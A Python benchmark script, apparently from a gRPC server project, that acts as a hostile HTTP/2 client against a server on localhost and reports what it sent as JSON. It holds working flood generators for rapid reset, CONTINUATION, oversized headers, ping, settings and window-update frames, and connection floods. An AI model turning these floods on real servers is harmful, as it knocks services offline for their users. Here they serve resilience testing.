"""A client that does harm: python -m benchmarks.attacker KIND PORT SECONDS

Prints that it is ready and waits for a line; then it sends one kind of frames as fast as it can, and connects anew
whenever it is cut. It leaves the core to honest clients where they need it: on other machines it would not take theirs.
Prints what it did, as JSON.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from itertools import count

from benchmarks.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)

METHOD = "/onebook.v1.MarketDataService/StreamBook"
PIECES = 100
"""Pieces of a flood per write."""


def _text(text: bytes) -> bytes:
    """A string of HPACK without Huffman coding (RFC 7541, 5.2)."""
    if len(text) < 127:
        return bytes((len(text),)) + text
    rest, prefix = len(text) - 127, b"\x7f"
    while rest >= 128:
        prefix, rest = prefix + bytes((rest % 128 + 128,)), rest // 128
    return prefix + bytes((rest,)) + text


def _block(*extra: tuple[str, str]) -> bytes:
    """The headers of a call of a stream of books, none of them indexed."""
    fields = [
        (":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", "attacker"),
        ("te", "trailers"), ("content-type", "application/grpc"), *extra,
    ]  # fmt: skip
    return b"".join(b"\x00" + _text(name.encode()) + _text(value.encode()) for name, value in fields)


CALL, LARGE_CALL = _block(), _block(("x", "a" * 13_000))
MESSAGE = bytes(5)
Piece = Callable[[int], bytes]
"""The bytes of one piece; it gets its number on its connection."""


def _first(first: bytes, further: bytes) -> Piece:
    return lambda number: further if number else first + further


FLOODS: dict[str, Piece] = {
    "rapid reset": lambda n: (
        frame(HEADERS, END_HEADERS, 2 * n + 1, CALL)
        + frame(DATA, END_STREAM, 2 * n + 1, MESSAGE)
        + frame(RESET, 0, 2 * n + 1, bytes(4))
    ),
    "late reset": lambda n: (
        frame(HEADERS, END_HEADERS, 2 * n + 1, CALL)
        + frame(DATA, END_STREAM, 2 * n + 1, MESSAGE)
        + (frame(RESET, 0, 2 * (n - PIECES) + 1, bytes(4)) if n >= PIECES else b"")
    ),
    "reset without body": lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, CALL) + frame(RESET, 0, 2 * n + 1, bytes(4)),
    "continuation": _first(frame(HEADERS, 0, 1, CALL), frame(CONTINUATION, 0, 1, b"\x82" * 9_000)),
    "13 KB headers": lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, LARGE_CALL),
    "ping": lambda _n: frame(PING, 0, 0, bytes(8)),
    "settings": lambda _n: frame(SETTINGS, 0, 0),
    "empty data": _first(frame(HEADERS, END_HEADERS, 1, CALL), frame(DATA, 0, 1)),
    "window update": lambda _n: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    "half-open calls": lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, CALL),
    "connects": lambda _n: b"",
}
"""Each kind by its name. A late reset comes when the server may have begun with the call; `connects` opens connections
and says nothing."""


def _connect(port: int) -> socket.socket:
    made = socket.create_connection(("127.0.0.1", port), timeout=2.0)
    with contextlib.suppress(OSError):
        made.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return made


def _swallow(connection: socket.socket) -> None:
    """Reads what has come, so that the server can send. Raises OSError where it has ended the connection."""
    connection.setblocking(False)
    try:
        while connection.recv(1 << 16):
            pass
        raise ConnectionResetError
    except BlockingIOError:
        pass
    finally:
        connection.settimeout(2.0)


def _blocks(piece: Piece) -> Iterator[bytes]:
    for start in count(0, PIECES):
        yield b"".join(piece(number) for number in range(start, start + PIECES))


def _send(connection: socket.socket, piece: Piece, until: float, done: dict[str, float]) -> None:
    """Until the time is over, or with OSError until the server has ended the connection."""
    for block in _blocks(piece):
        connection.sendall(block)
        done["bytes"] += len(block)
        _swallow(connection)
        if time.monotonic() > until:
            return


def flood(kind: str, port: int, seconds: float) -> dict[str, float]:
    """What the flood did in that time."""
    until = time.monotonic() + seconds
    done = {"connections": 0.0, "cut": 0.0, "bytes": 0.0}
    while time.monotonic() < until:
        done["connections"] += 1
        done["cut"] += 1
        with contextlib.suppress(OSError), contextlib.closing(_connect(port)) as connection:
            _send(connection, FLOODS[kind], until, done)
            done["cut"] -= 1
    return done


def connects(port: int, seconds: float, most: int = 200) -> dict[str, float]:
    """Connections one after the other, the newest of them kept open."""
    until = time.monotonic() + seconds
    done = {"connections": 0.0, "cut": 0.0, "bytes": 0.0}
    held: list[socket.socket] = []
    while time.monotonic() < until:
        done["cut"] += 1
        with contextlib.suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", port), timeout=2.0))
            done["connections"] += 1
            done["cut"] -= 1
        if len(held) > most:
            held.pop(0).close()
    return done


def main() -> None:
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    os.nice(15)
    print("ready", flush=True)
    sys.stdin.readline()
    print(json.dumps(connects(port, seconds) if kind == "connects" else flood(kind, port, seconds)))


if __name__ == "__main__":
    main()
